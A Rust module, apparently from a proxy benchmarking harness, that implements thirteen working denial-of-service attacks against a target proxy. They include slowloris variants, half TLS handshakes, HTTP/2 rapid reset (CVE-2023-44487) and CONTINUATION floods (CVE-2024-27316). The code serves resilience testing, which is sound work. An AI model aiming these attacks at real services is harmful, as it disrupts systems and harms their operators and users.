//! The attackers, which run on a separate thread with one task per connection.

use std::fmt;
use std::ops::AddAssign;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::thread;
use std::time::Duration;

use anyhow::{Context, Result, anyhow, ensure};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::sync::oneshot;
use tokio::time::sleep;
use tokio_rustls::TlsConnector;

use super::http2;
use crate::compare::load::Target;

/// A denial-of-service attack on a proxy.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Attack {
    /// Connections that send no request.
    Silence,
    /// Request heads that are sent byte by byte.
    SlowHeads,
    /// Request bodies that are sent byte by byte.
    SlowBodies,
    /// Responses that the client reads in small chunks.
    SlowReads,
    /// Responses that the client never reads.
    NeverReads,
    /// Request heads that grow to the maximum size and never end.
    LargeHeads,
    /// Connections that are opened and closed as fast as possible.
    Connections,
    /// TLS handshakes that are never completed.
    HalfHandshakes,
    /// HTTP/2 streams that are opened and reset (CVE-2023-44487).
    RapidReset,
    /// HTTP/2 connections that send frames but no request.
    Pings,
    /// HTTP/2 request heads that never end (CVE-2024-27316).
    Continuations,
    /// HTTP/2 responses for which the client opens no flow-control window.
    NoWindow,
    /// HTTP/2 responses that the client never reads, despite a large flow-control window.
    WideWindow,
}

impl Attack {
    pub(super) const ALL: [Self; 13] = [
        Self::Silence,
        Self::SlowHeads,
        Self::SlowBodies,
        Self::SlowReads,
        Self::NeverReads,
        Self::LargeHeads,
        Self::Connections,
        Self::HalfHandshakes,
        Self::RapidReset,
        Self::Pings,
        Self::Continuations,
        Self::NoWindow,
        Self::WideWindow,
    ];

    pub(super) fn name(self) -> &'static str {
        match self {
            Self::Silence => "silence",
            Self::SlowHeads => "slow heads",
            Self::SlowBodies => "slow bodies",
            Self::SlowReads => "slow reads",
            Self::NeverReads => "never reads",
            Self::LargeHeads => "large heads",
            Self::Connections => "connections",
            Self::HalfHandshakes => "half handshakes",
            Self::RapidReset => "h2 rapid reset",
            Self::Pings => "h2 pings",
            Self::Continuations => "h2 continuations",
            Self::NoWindow => "h2 no window",
            Self::WideWindow => "h2 wide window",
        }
    }

    pub(super) fn describe(self) -> String {
        let attackers = self.attackers();
        match self {
            Self::Silence => format!("{attackers} connections send no data"),
            Self::SlowHeads => format!("{attackers} connections send a byte of a head every 500 ms"),
            Self::SlowBodies => format!("{attackers} connections send a byte of a body every 500 ms"),
            Self::SlowReads => format!("{attackers} connections read 1 kB of 10 MB every 500 ms"),
            Self::NeverReads => format!("{attackers} connections request 10 MB and never read"),
            Self::LargeHeads => format!("{attackers} connections send 31 kB of an endless head"),
            Self::Connections => format!("{attackers} clients open and close connections"),
            Self::HalfHandshakes => format!("{attackers} connections send only a ClientHello"),
            Self::RapidReset => format!("{attackers} connections open streams and reset them"),
            Self::Pings => format!("{attackers} connections send PING and SETTINGS"),
            Self::Continuations => format!("{attackers} connections send endless CONTINUATION frames"),
            Self::NoWindow => format!("{attackers} connections with 100 streams request 10 MB and open no window"),
            Self::WideWindow => {
                format!("{attackers} connections with 100 streams request 10 MB, open a window of 2 GB, and never read")
            }
        }
    }

    pub(super) fn is_over_tls(self) -> bool {
        matches!(self, Self::HalfHandshakes) || self.is_http2()
    }

    pub(super) fn is_http2(self) -> bool {
        matches!(self, Self::RapidReset | Self::Pings | Self::Continuations | Self::NoWindow | Self::WideWindow)
    }

    pub(super) fn path(self) -> &'static str {
        match self {
            Self::SlowBodies => "/upload",
            Self::SlowReads | Self::NeverReads | Self::NoWindow | Self::WideWindow => "/10m",
            _ => "/small",
        }
    }

    /// Returns the number of concurrent connections of the attack.
    fn attackers(self) -> usize {
        match self {
            Self::Silence | Self::SlowHeads => 2000,
            Self::SlowBodies | Self::SlowReads | Self::NeverReads | Self::LargeHeads | Self::HalfHandshakes => 500,
            Self::Connections => 4,
            Self::RapidReset | Self::Pings | Self::Continuations => 4,
            Self::NoWindow | Self::WideWindow => 8,
        }
    }
}

/// The connections and sent bytes of the attackers.
#[derive(Debug, Default)]
pub(super) struct Done {
    connections: u64,
    closed: u64,
    sent: u64,
}

impl AddAssign for Done {
    fn add_assign(&mut self, other: Self) {
        self.connections += other.connections;
        self.closed += other.closed;
        self.sent += other.sent;
    }
}

impl fmt::Display for Done {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self { connections, closed, sent } = self;
        write!(f, "{connections} connections, {closed} closed by rproxy; {:.1} MB sent", *sent as f64 / 1e6)
    }
}

/// The connections and sent bytes of a running attack, as atomic counters.
#[derive(Debug, Default)]
pub(super) struct Counters {
    connections: AtomicU64,
    closed: AtomicU64,
    sent: AtomicU64,
}

impl Counters {
    pub(super) fn sent(&self, bytes: usize) {
        self.sent.fetch_add(bytes as u64, Relaxed);
    }
}

/// A running attack that can be stopped.
pub(super) struct RunningAttack {
    stop: oneshot::Sender<()>,
    thread: thread::JoinHandle<Result<Done>>,
}

impl RunningAttack {
    pub(super) fn begin(attack: Attack, target: &Target) -> Result<Self> {
        let (stop, stopped) = oneshot::channel();
        let target = target.clone();
        let connector = target.connector_for(b"h2")?;
        let thread = thread::spawn(move || {
            use_idle_time_only()?;
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
            runtime.block_on(async move {
                let counters = Arc::<Counters>::default();
                for number in 0..attack.attackers() {
                    let (target, connector, counters) = (target.clone(), connector.clone(), Arc::clone(&counters));
                    tokio::spawn(async move {
                        loop {
                            let ended = attack_once(attack, &target, connector.as_ref(), number, &counters).await;
                            if ended.is_err() || attack != Attack::Connections {
                                counters.closed.fetch_add(1, Relaxed);
                                // The attacker connects again.
                                sleep(Duration::from_millis(50)).await;
                            }
                        }
                    });
                }
                let _ = stopped.await;
                Ok(Done {
                    connections: counters.connections.load(Relaxed),
                    closed: counters.closed.load(Relaxed),
                    sent: counters.sent.load(Relaxed),
                })
            })
        });
        Ok(Self { stop, thread })
    }

    pub(super) fn end(self) -> Result<Done> {
        let _ = self.stop.send(());
        self.thread.join().map_err(|_| anyhow!("the attackers panicked"))?
    }
}

/// Restricts this thread to otherwise unused processor time.
///
/// Real attackers have other machines; without the limit the honest client would wait for them, not for the proxy.
fn use_idle_time_only() -> Result<()> {
    let thread = rustix::thread::gettid().as_raw_nonzero().to_string();
    let status = Command::new("chrt").args(["--idle", "--pid", "0", &thread]).status().context("chrt")?;
    ensure!(status.success(), "chrt: {status}");
    Ok(())
}

/// Runs the attack on one connection until the connection closes.
async fn attack_once(
    attack: Attack,
    target: &Target,
    tls: Option<&TlsConnector>,
    number: usize,
    counters: &Counters,
) -> Result<()> {
    if attack.is_http2() {
        let stream = target.socket(number, tls).await?;
        counters.connections.fetch_add(1, Relaxed);
        return http2::attack(attack, stream, &target.path, counters).await;
    }
    let mut stream = target.tcp(number).await?;
    counters.connections.fetch_add(1, Relaxed);
    let head = |method: &str, more: &str| format!("{method} {} HTTP/1.1\r\nHost: a\r\n{more}", target.path);
    let first = match attack {
        Attack::Connections => return Ok(()),
        Attack::Silence => String::new(),
        Attack::SlowHeads => head("GET", ""),
        Attack::LargeHeads => head("GET", &format!("X-A: {}", "a".repeat(31_000))),
        Attack::SlowBodies => head("POST", "Content-Length: 1000000\r\n\r\n"),
        _ => head("GET", "\r\n"),
    };
    match attack {
        // RFC 8446 §4: the first part of a ClientHello.
        Attack::HalfHandshakes => stream.write_all(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03").await?,
        _ => stream.write_all(first.as_bytes()).await?,
    }
    counters.sent(first.len());
    let mut taken = vec![0; 1000];
    loop {
        match attack {
            Attack::SlowHeads | Attack::SlowBodies => {
                sleep(Duration::from_millis(500)).await;
                stream.write_all(b"a").await?;
                counters.sent(1);
            }
            Attack::SlowReads => {
                sleep(Duration::from_millis(500)).await;
                if stream.read(&mut taken).await? == 0 {
                    return Ok(());
                }
            }
            Attack::NeverReads => std::future::pending().await,
            _ => {
                if stream.read(&mut taken).await? == 0 {
                    return Ok(());
                }
            }
        }
    }
}
